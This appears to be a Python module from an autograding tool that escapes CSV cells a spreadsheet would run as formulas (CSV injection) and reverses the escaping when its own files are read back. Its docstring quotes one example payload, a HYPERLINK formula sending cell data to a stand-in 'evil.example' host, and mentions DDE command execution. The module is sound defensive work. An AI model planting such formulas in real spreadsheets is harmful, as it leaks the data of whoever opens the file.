"""Every CSV file the grader writes, in a form a spreadsheet opens without running anything (OWASP "CSV Injection").

Instructors open grades.csv, lms.csv, manual.csv, extensions.csv, the Moodle worksheet and the Canvas gradebook in a
spreadsheet, and a spreadsheet takes a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula: a student's
answer, name or file name such as ``=HYPERLINK("https://evil.example/?"&A2, "details")`` would then send the sheet's
data away, or with DDE run a command. So a text cell that a spreadsheet would take as a formula is written with a
single quote in front (``'=SUM(A1)``), which spreadsheets show as text. What counts as one:

- its first character, once leading whitespace, line breaks and invisible characters (which LibreOffice and Excel may
  skip) are passed, is ``=``, ``+``, ``-`` or ``@``, or a compatibility form of one that some locales' Excel
  evaluates (full-width ``＝ ＋ － ＠``, small and superscript forms);
- or its very first character is a tab or a carriage return (OWASP's list).

Never touched: a plain decimal number (``-3.5``, ``+2``, ``1e-3``, ``2,5``: nothing there a spreadsheet could run,
and importers read the number), one of those characters alone (Moodle's ``-``, "not graded yet"), and every other
text, so the platforms' ids (``Participant 1234``, Canvas user and SIS ids, e-mails, ``00123``) go back exactly as
they came. ``csv_text`` says which cells it altered, for a caller to report an id that cannot go back as it came.

The quote must not be mistaken for the content when the grader reads its own files again (manual.csv,
extensions.csv), nor grow at every run: ``from_cell`` removes exactly the quote ``to_cell`` added. A cell that
already starts with quotes before a formula-like text (``'=x`` as someone typed it) gets one more, so the two are
told apart: ``from_cell(to_cell(x)) == x`` for every text without NUL. Read a file through ``csv_rows`` and write it
through ``csv_text`` and every cell comes back byte for byte, except one a spreadsheet would run, which gains its
quote; whether the spreadsheet showed the quote and saved it, or hid it and saved the bare text, reads back the same.

NUL is written as U+FFFD: spreadsheets cut a cell at a NUL, and a file holding one reads as a workbook, not text.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from collections.abc import Iterable, Sequence
from dataclasses import dataclass

BOM = "\ufeff"  # Excel reads a CSV as UTF-8 only with it
QUOTE = "'"
TRIGGERS = frozenset("=+-@")
# Signs, digits, a point or comma and an exponent: a number however a spreadsheet's locale reads it, never a formula.
_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:[.,][0-9]*)?|[.,][0-9]+)(?:[eE][+-]?[0-9]+)?")
_NUL, _REPLACEMENT = "\0", "\ufffd"


def _blank(char: str) -> bool:
    """Skipped by a spreadsheet before it looks for a formula: whitespace, line breaks, controls, invisible marks."""
    return char.isspace() or unicodedata.category(char) in ("Cc", "Cf")


def _trigger(char: str) -> bool:
    return unicodedata.normalize("NFKC", char) in TRIGGERS


def formula_like(text: str) -> bool:
    """Whether a spreadsheet opening ``text`` as a cell could take it as a formula."""
    if not text or _NUMBER.fullmatch(text):
        return False
    if text[0] in "\t\r":
        return True
    start = next((i for i, char in enumerate(text) if not _blank(char)), len(text))
    if start == len(text) or not _trigger(text[start]):
        return False
    return any(not _blank(char) for char in text[start + 1:])  # a lone "-" or "=" runs nothing


def to_cell(value: str) -> str:
    """``value`` as written into a CSV cell: a quote in front when a spreadsheet would run it (or when it already
    starts with quotes before such text, so that ``from_cell`` can tell the two apart)."""
    value = value.replace(_NUL, _REPLACEMENT)
    return QUOTE + value if formula_like(value.lstrip(QUOTE)) else value


def from_cell(cell: str) -> str:
    """A cell of a CSV the grader wrote (or a spreadsheet saved from it) as the grader meant it: the inverse of
    ``to_cell``. A quote a spreadsheet hid and did not save leaves nothing to remove, and reads the same."""
    if cell.startswith(QUOTE) and formula_like(cell.lstrip(QUOTE)):
        return cell[1:]
    return cell


@dataclass(frozen=True)
class AlteredCell:
    """A cell written otherwise than given: for the caller to say so where the cell is an id a platform matches."""
    row: int  # from 0, the header included
    column: int  # from 0
    value: str
    written: str


@dataclass(frozen=True)
class CsvText:
    text: str
    altered: tuple[AlteredCell, ...]

    def altered_in(self, column: int) -> list[AlteredCell]:
        """The cells of ``column`` below the header that were written otherwise than given."""
        return [cell for cell in self.altered if cell.column == column and cell.row > 0]


def csv_text(rows: Iterable[Sequence[str]], *, delimiter: str = ",", newline: str = "\n",
             bom: bool = False) -> CsvText:
    """``rows`` as CSV text, each cell through ``to_cell``, quoted as the csv module quotes (RFC 4180), each row
    ended by ``newline``; ``bom``: starting with a byte-order mark."""
    buffer = io.StringIO()
    # Every row is ended by \r\n so that the csv module quotes a cell holding either line-break character (with
    # lineterminator="\n" it leaves a bare \r unquoted, and a reader starts a new row there); then the row's own end
    # is put back.
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n")
    lines: list[str] = []
    altered: list[AlteredCell] = []
    for r, row in enumerate(rows):
        written = [to_cell(value) for value in row]
        altered += [AlteredCell(r, c, value, cell) for c, (value, cell) in enumerate(zip(row, written))
                    if value != cell]
        buffer.seek(0)
        buffer.truncate()
        writer.writerow(written)
        line = buffer.getvalue().removesuffix("\r\n")
        if r == 0 and line.startswith(BOM):
            # Quoted, or a reader takes the cell's first character for the file's byte-order mark and drops it. The
            # csv module left this cell unquoted, so it holds no delimiter and no quote.
            field, sep, rest = line.partition(delimiter)
            line = f'"{field}"{sep}{rest}'
        lines.append(line + newline)
    return CsvText((BOM if bom else "") + "".join(lines), tuple(altered))


def csv_rows(text: str, *, delimiter: str = ",") -> list[list[str]]:
    """The rows of CSV ``text`` (without its byte-order mark), each cell through ``from_cell``; ``csv.Error`` when it
    is not CSV."""
    return [[from_cell(cell) for cell in row] for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)]
